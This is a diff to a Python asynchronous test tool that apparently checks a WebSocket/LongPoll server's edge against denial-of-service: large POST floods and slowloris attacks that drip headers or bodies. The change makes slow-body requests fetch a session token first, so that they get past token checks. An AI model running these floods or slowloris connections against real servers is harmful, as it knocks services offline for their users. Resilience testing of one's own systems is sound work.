@@ -12,10 +12,10 @@ from __future__ import annotations
 
 import asyncio
 import collections
-import time
-from dataclasses import dataclass
-
 import json
+import time
+import urllib.parse
+from dataclasses import dataclass
 
 from wsraw import BINARY, PING, PhxClient, Sockets, frame, read_response, tcp_connect, ws_open
 
@@ -139,14 +139,14 @@ async def attack_longpoll_posts(t: Target, o) -> dict:
                 await loop.sock_sendall(sock, body[sent:sent + 262144])
                 sent += min(262144, size - sent)
         except OSError:
-            pass
-        early = answer.done() and sent < size
+            pass   # cut off: the answer (if any) tells why
         try:
-            status = lp_status(*(await answer))
+            status, answered = lp_status(*(await answer)), True
         except (OSError, asyncio.TimeoutError) as exc:
-            status = why(exc)
+            status, answered = why(exc), False
         socks.close(sock)
-        return {"status": status, "early": early, "sent": sent}
+        return {"status": status, "early": answered and sent < size, "cut": not answered and sent < size,
+                "sent": sent}
 
     try:
         results = await asyncio.gather(*(one(i) for i in range(o.lp_posts)), return_exceptions=True)
@@ -154,11 +154,13 @@ async def attack_longpoll_posts(t: Target, o) -> dict:
         socks.close_all()
     statuses = collections.Counter(r["status"] if isinstance(r, dict) else why(r) for r in results)
     early = sum(1 for r in results if isinstance(r, dict) and r["early"])
+    cut = sum(1 for r in results if isinstance(r, dict) and r["cut"])
     body_mb = sum(r["sent"] for r in results if isinstance(r, dict)) / MB
     st = ", ".join(f"{k} x{v}" for k, v in statuses.most_common())
-    return {"summary": f"{o.lp_posts} x {o.lp_body_mb:g} MB: answered {st}; {early} answered before the whole "
-                       f"body was sent; {body_mb:.0f} MB of body sent",
-            "ok": early == o.lp_posts, "statuses": dict(statuses), "answered_early": early, "body_mb_sent": body_mb}
+    return {"summary": f"{o.lp_posts} x {o.lp_body_mb:g} MB: {st}; {early} answered before the whole body was "
+                       f"sent" + (f", {cut} cut off unanswered" if cut else "") + f"; {body_mb:.0f} MB of body sent",
+            "ok": early + cut == o.lp_posts, "statuses": dict(statuses), "answered_early": early,
+            "cut_unanswered": cut, "body_mb_sent": body_mb}
 
 
 def lp_status(http: int, body: bytes) -> str:
@@ -172,9 +174,9 @@ def lp_status(http: int, body: bytes) -> str:
 
 # ---- 4: slowloris ---------------------------------------------------------------------------
 
-async def slow_connections(t: Target, o, n: int, seconds: float, first: bytes, drip, interval: float) -> dict:
-    """n connections that send `first`, then drip(k) every `interval` s; each watched for
-    `seconds` from its own open: did the edge close it (EOF, reset, or an answer) by then?"""
+async def slow_connections(t: Target, o, n: int, seconds: float, first, drip, interval: float) -> dict:
+    """n connections that send `await first(i)`, then drip(k) every `interval` s; each watched
+    for `seconds` from its own open: did the edge close it (EOF, reset, or an answer) by then?"""
     loop = asyncio.get_running_loop()
     socks = Sockets()
     opened: dict[int, float] = {}
@@ -184,8 +186,9 @@ async def slow_connections(t: Target, o, n: int, seconds: float, first: bytes, d
 
     async def open_one(i):
         try:
+            head = await first(i)
             sock = await tcp_connect(socks, t.source(i), t.host, t.port)
-            await loop.sock_sendall(sock, first)
+            await loop.sock_sendall(sock, head)
         except (OSError, asyncio.TimeoutError) as exc:
             failed[why(exc)] += 1
             return None
@@ -241,18 +244,48 @@ async def slow_connections(t: Target, o, n: int, seconds: float, first: bytes, d
 
 async def attack_slowloris_headers(t: Target, o) -> dict:
     """WebSocket upgrades whose header lines come one every o.slowloris_interval s."""
-    first = f"GET {WS_PATH} HTTP/1.1\r\nHost: {t.host}:{t.port}\r\n".encode()
+    head = f"GET {WS_PATH} HTTP/1.1\r\nHost: {t.host}:{t.port}\r\n".encode()
+
+    async def first(i):
+        return head
     return await slow_connections(t, o, o.slowloris_conns, o.slowloris_seconds, first,
                                   lambda k: f"X-Slow-{k}: {k}\r\n".encode(), o.slowloris_interval)
 
 
 async def attack_slowloris_bodies(t: Target, o) -> dict:
-    """LongPoll POSTs announcing o.slowbody_mb MB and sending o.slowbody_rate bytes a second."""
+    """LongPoll POSTs announcing o.slowbody_mb MB and sending o.slowbody_rate bytes a second,
+    each with the token of a session of its own (a GET first), so that an edge checking the
+    token before the body still has to take the body."""
     size = int(o.slowbody_mb * MB)
-    first = (f"POST {LP_PATH} HTTP/1.1\r\nHost: {t.host}:{t.port}\r\nContent-Type: application/json\r\n"
-             f"Content-Length: {size}\r\n\r\n[").encode()
+    socks = Sockets()
+    no_token = collections.Counter()
+
+    async def first(i):
+        token = None
+        try:
+            sock = await tcp_connect(socks, t.source(i), t.host, t.port)
+            try:
+                req = f"GET {LP_PATH}&user=attacker HTTP/1.1\r\nHost: {t.host}:{t.port}\r\n\r\n".encode()
+                await asyncio.get_running_loop().sock_sendall(sock, req)
+                _, body = await asyncio.wait_for(read_response(sock), 10)
+                token = json.loads(body).get("token")
+            finally:
+                socks.close(sock)
+        except (OSError, ValueError, AttributeError, asyncio.TimeoutError) as exc:
+            no_token[why(exc)] += 1
+        query = LP_PATH + (f"&token={urllib.parse.quote(token)}" if token else "")
+        return (f"POST {query} HTTP/1.1\r\nHost: {t.host}:{t.port}\r\nContent-Type: application/json\r\n"
+                f"Content-Length: {size}\r\n\r\n[").encode()
+
     chunk = b"a" * max(1, int(o.slowbody_rate))
-    return await slow_connections(t, o, o.slowbody_conns, o.slowbody_seconds, first, lambda k: chunk, 1.0)
+    try:
+        res = await slow_connections(t, o, o.slowbody_conns, o.slowbody_seconds, first, lambda k: chunk, 1.0)
+    finally:
+        socks.close_all()
+    if no_token:
+        res["summary"] += f"; sent without a session token: {sum(no_token.values())} ({dict(no_token)})"
+        res["no_token"] = dict(no_token)
+    return res
 
 
 # ---- 5: unfinished frames -------------------------------------------------------------------
